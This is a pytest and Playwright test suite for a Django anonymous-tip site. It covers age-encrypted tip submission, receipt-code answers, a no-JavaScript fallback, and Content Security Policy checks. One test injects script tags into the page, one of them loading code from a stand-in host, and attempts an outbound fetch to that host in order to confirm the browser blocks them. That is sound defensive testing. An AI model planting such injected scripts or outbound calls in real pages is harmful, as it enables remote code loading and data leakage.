"""A tip in a real Chromium: written, sealed, sent; opened by the body at home, answered; the answer opened with the code."""

from datetime import timedelta
from urllib.parse import urlsplit

import pytest
from django.utils import timezone
from playwright.sync_api import expect
from pyrage import encrypt, x25519

from inspections.actions.tips import answer_tip, open_tip, record_tips
from inspections.models import Tip
from tests import factories as make
from tests.follow import follow
from tests.tips import body_with_root, published, seal, unseal

pytestmark = pytest.mark.django_db(transaction=True)
SECRET = "The night shift keeps no sheet. Ни одного листа."


@pytest.fixture
def address(live_server, settings):
    """The site, where two bodies take tips."""
    for key in ("ivb", "nordic"):
        published(body_with_root(key), key)
    return f"http://localhost:{urlsplit(live_server.url).port}/tips/"


def write(page, address):
    """Write a tip to one body alone; return the receipt code."""
    page.goto(address)
    page.get_by_label("What do you know?").fill(SECRET)
    page.get_by_label("Nordic Compute Inspectorate").uncheck()
    page.get_by_role("button", name="Seal and send").click()
    page.get_by_role("heading", name="Your tip is received").wait_for(timeout=60_000)
    return page.locator('[data-put="code"]').inner_text()


def test_a_tip_is_sealed_sent_answered_and_the_answer_read(open_page, address, axe):
    page, sent = open_page(), []
    page.on(
        "request", lambda request: sent.append((request.url, request.post_data_buffer or b"", request.all_headers()))
    )
    code = write(page, address)
    axe(page)
    tip = Tip.objects.get()
    assert tip.worked
    text = unseal(tip.sealed)
    assert SECRET in text
    with pytest.raises(Exception, match="No matching keys"):
        unseal(tip.sealed, "nordic")
    wire = b"".join(body for _, body, _ in sent)
    assert SECRET.encode() not in wire
    assert code.split()[0].encode() not in wire
    assert not any("cookie" in headers for _, _, headers in sent)
    assert page.context.cookies() == []

    at = timezone.now() + timedelta(hours=1)
    record_tips(at=at)
    tip.refresh_from_db()
    about = {"tip": tip, "body": make.body(), "by": make.officer(make.body()), "at": at}
    open_tip(**about)
    [asked] = [line.removeprefix("Answer to: ") for line in text.splitlines() if line.startswith("Answer to: ")]
    sealed = encrypt(b"Who else saw it?".ljust(4096, b"\0"), [x25519.Recipient.from_str(asked)])
    answer_tip(sealed=sealed, **about)
    answer_tip(sealed=seal("Tell us your name.", "somebody"), **about)

    back = open_page(width=390)
    back.goto(address + "answers/")
    back.get_by_label("Receipt code").fill("wrong words")
    back.get_by_role("button", name="Open the answers").click()
    expect(back.get_by_role("alert").get_by_text("This is no receipt code")).to_be_visible()
    back.get_by_label("Receipt code").fill(code.upper().replace(" ", "-"))
    back.get_by_role("button", name="Open the answers").click()
    back.get_by_text("Who else saw it?").wait_for()
    expect(back.locator("[data-texts]").get_by_text("This answer is not sealed to your code")).to_be_visible()
    assert "Tell us your name" not in back.content()
    axe(back)


def test_a_page_that_was_tampered_with_runs_nothing_that_was_slipped_in(chromium, address):
    page, refused = chromium.new_context().new_page(), []
    page.on("console", lambda message: refused.append(message.text))

    def tamper(route):
        answer = route.fetch()
        slipped = "<script>window.caught = true</script><script src='https://elsewhere.example/x.js'></script>"
        route.fulfill(response=answer, body=answer.text().replace("</head>", slipped + "</head>"))

    page.route(address, tamper)
    page.goto(address)
    page.get_by_label("What do you know?").fill(SECRET)
    assert page.evaluate("window.caught") is None
    assert (
        page.evaluate(
            "() => { try { document.body.innerHTML = '<b>x</b>'; return 'set'; } catch (e) { return e.name; } }"
        )
        == "TypeError"
    )
    assert page.evaluate("fetch('https://elsewhere.example/?' + 1).then(() => 'sent', () => 'refused')") == "refused"
    assert sum("Content Security Policy" in words for words in refused) >= 2
    page.context.close()


def test_without_javascript_the_page_shows_how_to_seal_by_hand(chromium, address):
    page = chromium.new_context(java_script_enabled=False).new_page()
    page.goto(address)
    expect(page.locator("noscript .banner")).to_be_visible()
    expect(page.get_by_label("What do you know?")).to_be_hidden()
    files = {"name": "tip.age", "mimeType": "application/octet-stream", "buffer": seal("By hand.", "ivb")}
    page.get_by_label("Sealed file").set_input_files(files)
    follow(page.get_by_role("button", name="Hand in the sealed file"))
    handle = page.locator("code").first.inner_text()
    assert Tip.objects.get().handle == handle
    page.goto(address + "answers/")
    page.get_by_text("have a return handle").click()
    page.get_by_label("Return handle").fill(handle)
    follow(page.get_by_role("button", name="Show the sealed answers"))
    expect(page.locator("main section").get_by_text("will be on record soon after")).to_be_visible()
    page.context.close()
